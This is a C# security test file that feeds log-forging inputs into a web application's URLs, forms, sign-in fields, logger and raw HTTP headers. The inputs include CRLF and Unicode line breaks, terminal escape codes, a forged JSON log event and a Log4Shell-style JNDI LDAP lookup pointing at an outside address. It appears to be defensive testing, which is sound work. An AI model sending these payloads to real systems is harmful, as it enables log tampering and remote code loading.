using Banyan.Security.Tests.Matrix;
using Banyan.Security.Tests.Smuggling;
using Banyan.Testing;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;

namespace Banyan.Security.Tests.Museum.Log;

/// <summary>Somebody who would like to write a line of the log.</summary>
internal static class Forging
{
    /// <summary>Words that end a line for one reader or another, colour a terminal, or would pass for an event.</summary>
    public static readonly string[] Words =
    [
        "a\r\nb",
        "a\nb",
        "a\rb",
        "a\u2028b",
        "a\u2029b",
        "a\u0085b",
        "a\u000bb\u000cc",
        "a\0b",
        "\u001b[31mred\u001b[0m",
        "\u001b]0;title\u0007",
        "\u009b31m",
        "a\bb\u007f",
        "\u202Ebackwards",
        "\uFEFFmark",
        "%0d%0ab",
        "\\r\\nb",
        "\"}\n{\"Timestamp\":\"2026-01-01T00:00:00.000Z\",\"LogLevel\":\"Critical\",\"Message\":\"all is lost\"}",
        "{Method} {0} {{}}",
        "${jndi:ldap://192.0.2.1/x}",
        "\ud800",
    ];

    /// <summary>In addresses, forms and names, as browsers send it.</summary>
    public static async Task SendAsync(MatrixWorld world, string word)
    {
        var escaped = Uri.EscapeDataString(word);
        using var kwame = world.Visitor(Persona.Kwame);
        foreach (
            var path in (string[])
                [$"/cases/{escaped}", $"/applications/{escaped}", $"/cases?of={escaped}"]
        )
            (await kwame.GetAsync(path)).Dispose();
        (await kwame.PostAsync($"/{escaped}", ("_form", word))).Dispose();
        (await kwame.PostAsync("/me", ("name", word), ("_form", word))).Dispose();
        using var nobody = world.Host.NewVisitor();
        (await nobody.PostAsync("/sign-in", ("email", word))).Dispose();
        (await nobody.PostAsync("/sign-in/code", ("ticket", word), ("code", word))).Dispose();
        // Whoever takes our mail may say anything about it.
        var log = world
            .Host.Services.GetRequiredService<ILoggerFactory>()
            .CreateLogger("mail server");
        log.LogWarning(new InvalidOperationException(word), "it said {Words}", word);
    }

    /// <summary>In headers, as no browser sends it.</summary>
    public static async Task SendRawAsync(BanyanHost host, string word)
    {
        // What the web server takes for the end of a header is none of ours; the rest is sent as UTF-8.
        var bytes = string.Concat(
            System
                .Text.Encoding.UTF8.GetBytes(
                    word.Replace("\r", "", StringComparison.Ordinal)
                        .Replace("\n", "", StringComparison.Ordinal)
                        .Replace("\0", "", StringComparison.Ordinal)
                )
                .Select(one => (char)one)
        );
        foreach (
            var headers in (string[])
                [
                    $"Host: {host.BaseUrl.Authority}\r\nOrigin: {bytes}\r\nUser-Agent: {bytes}\r\nX-Forwarded-For: {bytes}\r\n",
                    $"Host: {host.BaseUrl.Authority}\r\nSec-Fetch-Site: {bytes}\r\nCookie: banyan={bytes}\r\n",
                    $"Host: {bytes}\r\n",
                ]
        )
        {
            using var connection = await RawConnection.OpenAsync(host.BaseUrl.Port);
            await connection.ExchangeAsync(
                $"POST /x HTTP/1.1\r\n{headers}Content-Length: 0\r\nConnection: close\r\n\r\n",
                TimeSpan.FromSeconds(2)
            );
        }
    }
}
